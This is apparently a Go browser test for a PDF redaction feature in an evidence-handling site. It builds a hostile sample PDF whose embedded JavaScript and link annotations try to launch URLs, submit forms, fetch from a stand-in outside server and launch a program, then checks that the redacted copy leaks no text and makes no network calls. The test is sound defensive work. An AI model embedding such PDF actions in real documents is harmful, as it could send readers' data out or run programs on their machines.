package desk_test

import (
	"bytes"
	"fmt"
	"image"
	"image/jpeg"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/chromedp"

	"temwen/site/sitetest"
)

// PDFs in a real browser.
func TestPDFInChromium(t *testing.T) {
	b := sitetest.Start(t)
	for _, c := range []struct {
		name string
		test func(*testing.T, *sitetest.Browser)
	}{
		{"a certificate, redacted", testRedactPDF},
	} {
		t.Run(c.name, func(t *testing.T) { c.test(t, b) })
	}
}

// sheaf is a PDF of these objects, the first being its catalogue.
func sheaf(objects ...string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	var at []int
	for i, o := range objects {
		at = append(at, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	start := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
	for _, n := range at {
		fmt.Fprintf(&b, "%010d 00000 n \n", n)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R /Info %d 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, len(objects), start)
	return b.Bytes()
}

// flow is an object with a stream.
func flow(entries, content string) string {
	return fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", entries, len(content), content)
}

// certificate is a PDF of two pages with a word in each of the places in which a PDF keeps words,
// and everything that a hostile one tries.
func certificate(elsewhere string) []byte {
	page := func(content, annotations string) string {
		return "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F 9 0 R >> >> /Contents " + content + " /Annots [" + annotations + "] /AA << /O 12 0 R >> >>"
	}
	return sheaf(
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 12 0 R /AA << /WC 12 0 R >> /Metadata 7 0 R /Names << /EmbeddedFiles << /Names [(INVENTED-ATTACHED.txt) 10 0 R] >> /JavaScript << /Names [(x) 12 0 R] >> >> >>",
		"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
		page("5 0 R", "8 0 R 13 0 R 14 0 R"),
		page("6 0 R", ""),
		flow("", "BT /F 24 Tf 72 720 Td (INVENTED-NAME of the patient) Tj ET BT /F 24 Tf 72 400 Td (was seen on this day) Tj ET 0 0 1 rg 72 100 200 50 re f"),
		flow("", "BT /F 24 Tf 72 720 Td (INVENTED-SECOND page) Tj ET"),
		flow("/Type /Metadata /Subtype /XML", "<x:xmpmeta xmlns:x='adobe:ns:meta/'>INVENTED-XMP</x:xmpmeta>"),
		"<< /Type /Annot /Subtype /Text /Rect [400 700 420 720] /Contents (INVENTED-NOTE) >>",
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
		"<< /Type /Filespec /F (INVENTED-ATTACHED.txt) /EF << /F 11 0 R >> >>",
		flow("/Type /EmbeddedFile", "INVENTED-ATTACHMENT"),
		"<< /S /JavaScript /JS (app.launchURL\\('"+elsewhere+"/script'\\); this.submitForm\\('"+elsewhere+"/form'\\); fetch\\('"+elsewhere+"/fetch'\\); document.title = 'INVENTED-TITLE') >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI ("+elsewhere+"/link) >> >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (INVENTED-PROGRAM) >> /AA << /PV 12 0 R >> >>",
		"<< /Title (INVENTED-INFO) /Author (INVENTED-AUTHOR) >>",
	)
}

var dct = regexp.MustCompile(`(?s)/Width (\d+) /Height (\d+) .{0,80}/DCTDecode /Length (\d+) >>\nstream\n`)

// drawnPages are those of the pages of a copy.
func drawnPages(t *testing.T, pdf []byte) (all []image.Image) {
	t.Helper()
	for _, at := range dct.FindAllSubmatchIndex(pdf, -1) {
		m, err := jpeg.Decode(bytes.NewReader(pdf[at[1]:]))
		if err != nil {
			t.Fatal(err)
		}
		all = append(all, m)
	}
	return all
}

// Given a certificate whose PDF has words in its text, its data, a note and an attachment, and which tries
// to run and open things, when an officer covers the name on the first page and leaves the second out, then the
// copy is a PDF of one picture with black there, and has none of the words.
func testRedactPDF(t *testing.T, b *sitetest.Browser) {
	var tried atomic.Int32
	elsewhere := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { tried.Add(1) }))
	t.Cleanup(elsewhere.Close)
	k := withCases(t)
	id := k.open(t, "mss-criminal")
	w := k.sit(t, b, "en", atDesk)
	w.signIn("lakay")
	w.open("/cases/" + id + "/evidence")
	w.unlock()
	w.takeIn("person", w.file("certificate.pdf", certificate(elsewhere.URL)), "An invented certificate.")
	w.openItem()
	w.until("the frame is there", `document.querySelector("iframe[sandbox='allow-scripts']")`)
	w.do("forging what the frame says", chromedp.Evaluate[chromedp.Void](`void postMessage({problem: "locked"}, "*")`))
	w.sees("In the copy: 1 of 2 pages. Left out: 0. Not looked at yet, and therefore not in it: 1.")
	w.press("[data-do=leaf-on]")
	w.sees("In the copy: 2 of 2 pages.")
	w.press("[data-do=keep-redacted]")
	w.sees("Draw a box over what must not be seen.")
	w.press("[name=out]")
	w.sees("In the copy: 1 of 2 pages. Left out: 1.")
	w.press("[data-do=leaf-back]")
	w.until("the first page is there", `document.querySelector(".turn [name=leaf]").value === "1" && document.querySelector(".redact canvas").checkVisibility()`)
	w.press("[data-do=add-box]")
	for side, n := range map[string]string{"left": "180", "top": "250", "width": "1200", "height": "130"} {
		w.write("[data-boxes] li:last-child [name="+side+"]", n)
	}
	if *evidencePictures != "" {
		w.Picture(filepath.Join(*evidencePictures, "redact-pdf.png"))
	}
	w.press("[data-do=keep-redacted]")
	w.sees("redacted-1.pdf")
	about, content := k.plain(t, id, 2)
	if about.Name != "redacted-1.pdf" {
		t.Errorf("the copy is named %s", about.Name)
	}
	if bytes.Contains(content, []byte("INVENTED")) {
		t.Error("the copy has a word of the original")
	}
	pages := drawnPages(t, content)
	if len(pages) != 1 || pages[0].Bounds() != image.Rect(0, 0, 1652, 2338) {
		t.Fatalf("the copy has %d pages, %v", len(pages), pages)
	}
	black(t, pages[0], image.Rect(180, 250, 1380, 380).Inset(16), 0)
	if path, err := exec.LookPath("pdftotext"); err == nil {
		words, err := exec.Command(path, w.file("copy.pdf", content), "-").CombinedOutput()
		if err != nil || strings.TrimSpace(string(words)) != "" {
			t.Errorf("poppler reads %q, %v", words, err)
		}
	}
	if asked := tried.Load(); asked != 0 {
		t.Errorf("the PDF reached the network %d times", asked)
	}
	w.quiet()
}
